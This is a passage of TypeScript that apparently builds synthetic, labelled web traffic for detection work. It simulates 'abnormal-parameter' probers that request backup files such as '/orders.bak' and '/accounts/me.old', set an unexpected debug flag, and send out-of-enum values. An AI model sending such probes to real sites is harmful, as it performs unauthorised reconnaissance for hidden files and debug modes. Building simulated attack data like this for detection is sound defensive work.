        () => [routes.orders, 'GET', '/orders.bak', null],
        () => [routes.products, 'GET', '/catalog/products~', null],
        () => [routes.accounts, 'GET', '/accounts/me.old', null],
      ],
    ],
    ['a flag never seen', [list({ page: '1', limit: '20', debug: 'true' })]],
    [
      'in the character set, off the enum',
      [
        list({ page: '1', limit: '20', status: 'opened' }),
        get('/reports/1004/render', routes.reports, { format: 'xls' }),
      ],
    ],
  ];
  for (const [index, [title, of]] of variants.entries()) {
    const random = stage.random(`parameters ${index + 1}`);
    const requests = 3 + random.int(12);
    const label = stage.attack(`abnormal-parameter:${index + 1}`, 'abnormal-parameter', title, { requests });
    const who = person(stage, `prober-${index + 1}`, { country: 'GB', devices: households.servers('GB') });
    sittings(stage, who, 40, [stage.startMs, stage.endMs], { perMinute: 5 });
    const device = who.devices[0]!;
    const from = stage.workday(random, german, 8 + random.int(10));
    stage.at(
      Array.from({ length: requests }, (_, at) => from + at * random.between(5, 40) * secondMs),
      (atMs) => {
        const [at, method, path, query] = random.pick(of)(random);
        const probe = request(device.client, device.ip(), atMs, at, method, path, query, random);
        probe.status = random.pick([200, 400, 422, 200, 500, 404]);
        stage.send(probe, label);
      },
    );
  }
}

function round(value: number): number {
  return Math.round(value * 1_000) / 1_000;
}
